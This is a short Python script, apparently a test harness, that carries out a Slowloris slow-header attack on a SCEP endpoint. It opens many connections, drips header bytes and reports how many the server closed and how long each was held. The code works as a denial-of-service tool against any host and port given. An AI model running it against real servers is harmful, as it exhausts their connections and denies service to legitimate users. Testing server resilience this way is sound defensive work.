"""Slowloris: hold many connections open by dripping a request header.

usage: slowloris.py HOST PORT CONNECTIONS SECONDS READY_FILE
Opens CONNECTIONS sockets, sends an incomplete request head on each and then
one header byte every 0.5 s for SECONDS. Touches READY_FILE once all are
open, then prints one JSON line: how many the server closed and after how
long each was closed.
"""
import json
import os
import socket
import sys
import time

host, port, count, seconds, ready = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5]
opened = []
for _ in range(count):
    s = socket.create_connection((host, port), timeout=5)
    s.setblocking(False)
    s.sendall(b"POST /scep?operation=PKIOperation HTTP/1.1\r\nHost: slow\r\n")
    opened.append([s, time.monotonic(), None])
open(ready, "w").close()
deadline = time.monotonic() + seconds
while time.monotonic() < deadline and any(entry[2] is None for entry in opened):
    for entry in opened:
        s, started, closed = entry
        if closed is not None:
            continue
        try:
            data = s.recv(4096)
            if data == b"":
                entry[2] = time.monotonic() - started
                continue
        except BlockingIOError:
            pass
        except OSError:
            entry[2] = time.monotonic() - started
            continue
        try:
            s.send(b"X")
        except OSError:
            entry[2] = time.monotonic() - started
    time.sleep(0.5)
held = [e[2] for e in opened if e[2] is not None]
print(json.dumps({"opened": count, "closedByServer": len(held), "longestHeld": max(held) if held else None}))
